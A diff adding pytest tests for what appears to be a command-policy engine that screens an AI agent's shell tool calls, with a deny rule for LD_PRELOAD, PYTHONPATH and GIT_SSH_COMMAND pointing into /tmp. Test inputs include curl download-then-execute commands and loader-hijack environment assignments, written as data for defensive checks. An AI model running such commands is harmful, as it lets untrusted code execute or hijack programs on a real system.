@@ -376,3 +376,47 @@ def test_container_mounts_and_files_run_after_download() -> None:
     assert kinds("curl -o /tmp/i.sh https://x.example/i && sh /tmp/i.sh", "code") == ["sh"]
     assert kinds("curl -sLO https://x.example/get.sh && ./get.sh", "code") == ["get.sh"]
     assert kinds("curl -o d.json https://x.example/d && jq . d.json", "code") == []
+
+
+ENV_POLICY = """
+version: "1"
+default_action: allow
+policies:
+  - name: loader
+    rules:
+      - action: deny
+        when:
+          env_matches: ['LD_PRELOAD=*', 'PYTHONPATH=/tmp*', 're:^(GIT_SSH_COMMAND|GIT_SSH)=/tmp/']
+"""
+
+
+@pytest.mark.parametrize(("command", "action", "policy"), [
+    # the value is only known at run time, the name is not: PATH is named by no pattern
+    ('export PATH="$HOME/.local/bin:$PATH"', "allow", None),
+    ("export PATH=$PATH:./node_modules/.bin", "allow", None),
+    ("NODE_ENV=$MODE npm test", "allow", None),
+    # a pattern that can name the variable holds possibly (a deny asks)
+    ("LD_PRELOAD=$LIB ./app", "ask", "loader"),
+    ("PYTHONPATH=$DIR python3 x.py", "ask", "loader"),
+    ("GIT_SSH_COMMAND=$CMD git fetch", "ask", "loader"),
+    # known values are matched as before
+    ("LD_PRELOAD=/tmp/x.so ./app", "deny", "loader"),
+    ("GIT_SSH_COMMAND=/tmp/x git fetch", "deny", "loader"),
+    ("PYTHONPATH=src python3 x.py", "allow", None),
+])
+def test_run_time_env_values_match_only_patterns_that_can_name_the_variable(
+        command: str, action: str, policy: str | None) -> None:
+    ps = compile_text(ENV_POLICY, home=HOME)
+    d = evaluate(ps, ToolCall("exec", "a", "s", {"command": command}, cwd=CWD))
+    assert d.action == action
+    assert (d.policy or None) == policy
+
+
+def test_a_regex_not_anchored_on_a_name_could_match_any_run_time_variable() -> None:
+    unanchored = ENV_POLICY.replace("re:^(GIT_SSH_COMMAND|GIT_SSH)=/tmp/", "re:(?i)proxy=socks")
+    ps = compile_text(unanchored, home=HOME)
+    for command in ("FOO=$BAR ls", 'export PATH="$HOME/bin:$PATH"'):
+        d = evaluate(ps, ToolCall("exec", "a", "s", {"command": command}, cwd=CWD))
+        assert (d.action, d.policy) == ("ask", "loader")
+    known = evaluate(ps, ToolCall("exec", "a", "s", {"command": "FOO=bar ls"}, cwd=CWD))
+    assert known.action == "allow"
